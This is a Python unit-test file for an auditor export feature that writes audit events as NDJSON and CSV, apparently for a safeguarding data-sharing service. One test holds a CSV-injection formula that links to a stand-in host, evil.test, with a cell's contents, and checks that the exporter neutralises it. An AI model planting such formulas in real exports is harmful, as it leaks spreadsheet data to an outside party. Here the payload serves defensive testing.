"""Export for auditors (issue 6 §6): NDJSON and CSV, the window [since, until), streaming."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest

from mais_node.audit import balp
from mais_node.audit.actors import Actor, Subject
from mais_node.audit.export import CSV_COLUMNS, export, neutralised
from mais_node.audit.memory import MemoryAuditLog
from tests.unit.audit.audit_builders import NODE, T0, THREAT, actor, fill


@pytest.fixture
def filled(log: MemoryAuditLog) -> MemoryAuditLog:
    fill(log, 10, step=timedelta(hours=1))
    return log


def test_ndjson_holds_one_audit_event_per_line_within_the_window(filled: MemoryAuditLog) -> None:
    out = io.StringIO()
    written = export(filled.scan(), T0 + timedelta(hours=2), T0 + timedelta(hours=5), "ndjson", out)
    lines = out.getvalue().splitlines()
    assert written == 3
    assert [json.loads(line)["id"] for line in lines] == ["3", "4", "5"]
    assert json.loads(lines[0])["resourceType"] == "AuditEvent"


def test_csv_has_the_auditor_columns_and_the_chain_hash(filled: MemoryAuditLog) -> None:
    out = io.StringIO()
    assert export(filled.scan(), None, None, "csv", out) == 10
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert tuple(rows[0]) == CSV_COLUMNS
    first = next(filled.scan())
    assert rows[0] == {
        "seq": "1",
        "recorded": "2026-03-01T09:00:00.000000+00:00",
        "type": "110113",
        "subtype": "decision permit is-known",
        "action": "E",
        "outcome": "0",
        "agent_who": "u-1 client-A0 A0 X26",
        "user": "Sam Worker",
        "patient": "9434765900",
        "request_id": "enq-A0-9434765900",
        "rules": "national.s47.is-known",
        "reason": "PERMIT is-known",
        "policy": "https://dsa.test/SharingPolicy/7|2",
        "purpose": "THREAT s47-enquiry",
        "hash": first.hash,
    }


def test_csv_names_the_request_rules_reasons_and_agreement_of_an_enquirys_decision(log: MemoryAuditLog) -> None:
    """Issue 12 item 18: the columns an auditor filters by are filled from the records an enquiry writes."""
    event = balp.decision(
        NODE,
        T0,
        actor(),
        enquiry_id="req-42",
        item="is-open",
        outcome="review",
        rule_ids=["national:general:refer", "LA0001-NODE01-2026:clause:permit-1"],
        reasons=["no agreement in force", "referred for review"],
        policies=["urn:mais:sharing-policy:LA0001-NODE01-2026"],
        subject=Subject("9434765919"),
    )
    log.append(event)
    out = io.StringIO()
    export(log.scan(), None, None, "csv", out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert row["request_id"] == "req-42"
    assert row["rules"] == "national:general:refer LA0001-NODE01-2026:clause:permit-1"
    assert row["reason"] == "REVIEW is-open: no agreement in force; referred for review"
    assert row["policy"] == "urn:mais:sharing-policy:LA0001-NODE01-2026"
    assert row["user"] == "Sam Worker"


def test_an_unknown_format_is_refused(filled: MemoryAuditLog) -> None:
    with pytest.raises(ValueError, match="xml"):
        export(filled.scan(), None, None, "xml", io.StringIO())  # type: ignore[arg-type]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_beginning_like_a_formula_is_prefixed_so_a_spreadsheet_shows_it_as_text(
    log: MemoryAuditLog, start: str
) -> None:
    """OWASP CSV injection: a hostile reason, organisation or user name reaches the auditor's spreadsheet as text."""
    formula = f'{start}HYPERLINK("https://evil.test/?"&A1,"open")'
    hostile = Actor(formula, "client-X", formula, formula, None, (THREAT,))
    event = balp.review_decision(
        NODE, T0, hostile, enquiry_id="req-1", item="is-known", outcome="permit", reason=formula
    )
    log.append(event)
    out = io.StringIO()
    export(log.scan(), None, None, "csv", out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert row["reason"] == "'" + formula
    assert row["user"] == "'" + formula
    assert row["agent_who"].startswith("'" + formula)
    assert row["seq"] == "1"  # numbers and ordinary text are left as they are
    assert row["request_id"] == "req-1"


def test_neutralised_leaves_text_that_only_holds_a_formula_character_later() -> None:
    assert neutralised("LA0001 =1+1") == "LA0001 =1+1"
    assert neutralised("") == ""
    assert neutralised(-3) == -3
    assert neutralised("-3") == "'-3"
